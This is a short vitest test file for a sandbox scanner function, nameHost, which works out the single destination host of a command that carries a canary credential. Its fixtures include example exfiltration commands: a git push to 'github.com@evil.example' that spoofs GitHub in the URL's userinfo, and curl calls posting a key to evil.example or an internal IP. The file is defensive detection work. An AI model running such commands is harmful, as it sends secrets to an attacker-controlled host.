import { expect, test } from "vitest";
import { nameHost } from "../../../../../src/scanners/sandbox/observe/canary/name-host.ts";

test.each<readonly [readonly string[], string | null]>([
  [["git", "push", "https://key@github.com/acme/site"], "github.com"],
  [["git", "push", "https://user:key@GitHub.com:443/acme/site.git", "main"], "github.com"],
  [["curl", "-H", "Authorization: Bearer key", "https://api.github.com/user"], "api.github.com"],
  [["git", "push", "https://github.com@evil.example/acme"], "evil.example"],
  [["git", "push", "https://key@github.com/a", "https://evil.example/b"], null],
  [["curl", "-d", "key", "evil.example", "-e", "https://github.com"], null],
  [["curl", "-d", "key", "10.0.0.1:8080", "-e", "https://github.com"], null],
  [["gh", "auth", "login"], null],
])("the only host in %j is %s", (words, host) => {
  expect(nameHost(words)).toBe(host);
});
